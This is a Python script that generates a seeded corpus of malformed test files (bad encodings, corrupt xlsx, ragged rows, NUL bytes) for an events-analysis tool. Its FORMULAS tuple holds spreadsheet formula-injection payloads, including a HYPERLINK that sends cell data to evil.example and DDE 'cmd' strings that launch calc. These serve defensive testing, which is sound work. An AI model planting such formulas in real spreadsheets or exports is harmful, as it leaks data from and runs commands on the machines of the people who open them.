"""Generate the hostile-input corpus in tests/data/bad/ (see tests/data/bad/README.md).

Small files are committed (``python -m tests.data.make_bad_files`` rewrites them byte for
byte: every generator is seeded); large ones (5,000 columns, ~50 MB) are built at test time
by :func:`wide_csv` and :func:`big_csv` and never written into the repository.

Example
-------
>>> len(wide_csv(10).splitlines()[0].split(b","))
10
"""

from __future__ import annotations

import io
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent / "bad"


def _gbk(text: str) -> bytes:
    return text.replace("\n", "\r\n").encode("gbk")


def _orders(rows: list[str], header: str = "用户ID,下单时间,实付金额,渠道") -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def empty() -> bytes:
    return b""


def whitespace_only() -> bytes:
    return b"  \r\n\t\r\n   \n"


def header_only() -> bytes:
    return "用户ID,行为时间,事件\r\n".encode("utf-8")


def binary() -> bytes:
    rng = random.Random(20240105)
    return bytes(rng.randrange(256) for _ in range(4096))


def png_renamed() -> bytes:
    """A picture saved as .csv: a PNG signature followed by binary chunks."""
    rng = random.Random(7)
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(2048))


def one_column() -> bytes:
    return ("用户ID\n" + "".join(f"U{i:04d}\n" for i in range(1, 21))).encode("utf-8")


def mixed_encoding() -> bytes:
    """Two exports glued together: GBK lines then UTF-8 lines (Chinese in both)."""
    gbk = "用户ID,行为时间,事件\r\n张三,2024-01-05 10:00,登录\r\n李四,2024-01-06 11:00,浏览\r\n".encode("gbk")
    utf8 = "王五,2024-01-07 12:00,下单\r\n赵六,2024-01-08 13:00,支付\r\n".encode("utf-8")
    return gbk + utf8


def bom_then_gbk() -> bytes:
    """A UTF-8 byte-order mark in front of GBK text (a tool added the BOM, the body is GBK)."""
    return b"\xef\xbb\xbf" + _gbk("用户ID,行为时间,事件\n张三,2024-01-05 10:00,登录\n李四,2024-01-06 11:00,浏览\n"
                                 "王五,2024-01-07 12:00,下单\n")


def dates_1900_2100() -> bytes:
    return _orders([
        "U1,1900-01-01 00:00,10,app",
        "U2,2100-12-31 23:59,20,app",
        "U3,2024-01-05 10:00,30,app",
        "U4,2024-01-06 10:00,40,app",
        "U5,1899-12-30,50,app",
    ])


def extreme_amounts() -> bytes:
    return _orders([
        "U1,2024-01-05 10:00,-50,app",
        "U2,2024-01-05 11:00,1e15,app",
        "U3,2024-01-05 12:00,\"1,000,000,000,000,000\",app",
        "U4,2024-01-05 13:00,99.5,app",
        "U5,2024-01-05 14:00,¥1280,app",
        "U6,2024-01-05 15:00,abc,app",
    ])


def missing_ids() -> bytes:
    return _orders([
        ",2024-01-05 10:00,10,app",
        "NULL,2024-01-05 11:00,20,app",
        "U3,2024-01-05 12:00,30,app",
        "  ,2024-01-05 13:00,40,app",
        "U5,2024-01-05 14:00,50,app",
        "N/A,2024-01-05 15:00,60,app",
    ])


def duplicated_rows() -> bytes:
    row = "U1,2024-01-05 10:00,10,app"
    return _orders([row, row, row, "U2,2024-01-05 11:00,20,app", "U2,2024-01-05 11:00,20,app",
                    "U3,2024-01-05 12:00,30,app"])


FORMULAS = ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def formula_strings() -> bytes:
    """Formula payloads in ids, channels and an extra attribute column (events keep those)."""
    buf = io.StringIO()
    import csv

    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["user_id", "event_time", "event_name", "channel", "备注", "=HYPERLINK(\"x\")"])
    for i, f in enumerate(FORMULAS):
        w.writerow([f, f"2024-01-{5 + i:02d} 10:00", "visit", f, f, "+1"])
        w.writerow([f"U{i}", f"2024-01-{5 + i:02d} 11:00", f, "app", "ok", "-1"])
    return buf.getvalue().encode("utf-8")


def excel_serial_dates() -> bytes:
    """Dates as Excel serial numbers (45296 = 2024-01-05), as a copied spreadsheet gives them."""
    return _orders([f"U{i},{45296 + i},{10 * (i + 1)},app" for i in range(5)] + ["U9,45296.5,99,app"])


def _xlsx(sheets: list[tuple[str, list[list]]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets:
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return _deterministic_zip(buf.getvalue())


def _deterministic_zip(data: bytes) -> bytes:
    """Rewrite the zip with fixed timestamps so the committed file does not change per run."""
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:  # stored: no zlib-version drift
        for info in src.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_STORED
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                body = re.sub(rb"<dcterms:(created|modified)([^>]*)>[^<]*<",
                              rb"<dcterms:\1\2>2024-01-01T00:00:00Z<", body)
            dst.writestr(fixed, body)
    return out.getvalue()


def xlsx_empty_first_sheet() -> bytes:
    rows = [["用户ID", "下单时间", "实付金额"], ["U1", "2024-01-05 10:00", 12.5], ["U2", "2024-01-06 10:00", 30],
            ["U3", "2024-01-07 10:00", 7]]
    return _xlsx([("说明", []), ("订单", rows)])


def xls_really_html() -> bytes:
    return ("<html><head><meta charset=\"utf-8\"></head><body><table>"
            "<tr><td>用户ID</td><td>金额</td></tr><tr><td>U1</td><td>10</td></tr>"
            "</table></body></html>").encode("utf-8")


def xlsx_corrupt() -> bytes:
    """A zip signature with garbage after it (a truncated download)."""
    return b"PK\x03\x04" + bytes(range(256)) * 4


def utf16_tsv() -> bytes:
    """Excel's "Unicode text" export: UTF-16 LE with a BOM, tab-separated."""
    text = "用户ID\t行为时间\t事件\r\nU1\t2024-01-05 10:00\t登录\r\nU2\t2024-01-06 10:00\t浏览\r\n" \
           "U3\t2024-01-07 10:00\t下单\r\n"
    return b"\xff\xfe" + text.encode("utf-16-le")


def unclosed_quote() -> bytes:
    return _orders(["U1,2024-01-05 10:00,10,app", "U2,2024-01-06 10:00,\"20,app", "U3,2024-01-07 10:00,30,app"])


def ragged_rows() -> bytes:
    return _orders(["U1,2024-01-05 10:00,10,app", "U2,2024-01-06 10:00,20,app,extra,more",
                    "U3,2024-01-07 10:00", "U4,2024-01-08 10:00,40,app"])


def nul_bytes() -> bytes:
    """A database dump with a few stray NUL bytes inside cells (40 rows, 2 NULs)."""
    rows = [f"U{i},2024-01-{1 + i % 28:02d} 10:00,{10 + i},app" for i in range(40)]
    rows[3] = rows[3].replace("U3", "U3\x00")
    rows[7] = rows[7].replace("app", "a\x00pp")
    return _orders(rows)


def no_usable_columns() -> bytes:
    """A well-formed table that has nothing to do with users or time."""
    return "颜色,尺寸\n红,L\n蓝,M\n绿,S\n".encode("utf-8")


CORPUS = {
    "empty.csv": empty,
    "whitespace_only.csv": whitespace_only,
    "header_only.csv": header_only,
    "binary.csv": binary,
    "png_renamed.csv": png_renamed,
    "one_column.csv": one_column,
    "mixed_encoding.csv": mixed_encoding,
    "bom_then_gbk.csv": bom_then_gbk,
    "dates_1900_2100.csv": dates_1900_2100,
    "extreme_amounts.csv": extreme_amounts,
    "missing_ids.csv": missing_ids,
    "duplicated_rows.csv": duplicated_rows,
    "formula_strings.csv": formula_strings,
    "excel_serial_dates.csv": excel_serial_dates,
    "empty_first_sheet.xlsx": xlsx_empty_first_sheet,
    "html_disguised.xls": xls_really_html,
    "corrupt.xlsx": xlsx_corrupt,
    "utf16_excel.tsv": utf16_tsv,
    "unclosed_quote.csv": unclosed_quote,
    "ragged_rows.csv": ragged_rows,
    "nul_bytes.csv": nul_bytes,
    "no_usable_columns.csv": no_usable_columns,
}


def wide_csv(n_cols: int = 5000, n_rows: int = 3) -> bytes:
    """``n_cols`` columns (user_id, event_time, then filler), built at test time."""
    header = ["user_id", "event_time"] + [f"c{i}" for i in range(n_cols - 2)]
    lines = [",".join(header)]
    for r in range(n_rows):
        lines.append(",".join([f"U{r}", f"2024-01-0{r + 1} 10:00"] + ["x"] * (n_cols - 2)))
    return ("\n".join(lines) + "\n").encode("ascii")


def big_csv(target_bytes: int = 50 * 1024**2, seed: int = 1) -> tuple[bytes, int]:
    """An events CSV of about ``target_bytes`` (Chinese headers, UTF-8) with distinct rows;
    returns ``(bytes, n_rows)``. A seeded block of 10,000 rows is repeated with a different
    user-id prefix each time, so it builds in well under a second."""
    rng = random.Random(seed)
    names = ("visit", "view", "cart", "purchase", "登录", "浏览")
    block_rows = []
    for i in range(10_000):
        day = 1 + rng.randrange(28)
        block_rows.append(f"U@@@@{i:05d},2024-01-{day:02d} {rng.randrange(24):02d}:"
                          f"{rng.randrange(60):02d}:{rng.randrange(60):02d},{rng.choice(names)},"
                          f"{rng.randrange(1, 100_000) / 100:.2f}")
    block = ("\n".join(block_rows) + "\n").encode("utf-8")
    header = "用户ID,行为时间,事件,金额\n".encode("utf-8")
    reps = max(1, (target_bytes - len(header)) // len(block))
    body = b"".join(block.replace(b"@@@@", b"%04d" % r) for r in range(reps))
    return header + body, reps * len(block_rows)


def write_corpus(folder: Path = HERE) -> dict[str, int]:
    """Write every committed corpus file; returns name -> size."""
    folder.mkdir(parents=True, exist_ok=True)
    sizes = {}
    for name, make in CORPUS.items():
        data = make()
        (folder / name).write_bytes(data)
        sizes[name] = len(data)
    return sizes


if __name__ == "__main__":
    for name, size in write_corpus().items():
        print(f"{size:>8,}  {name}")
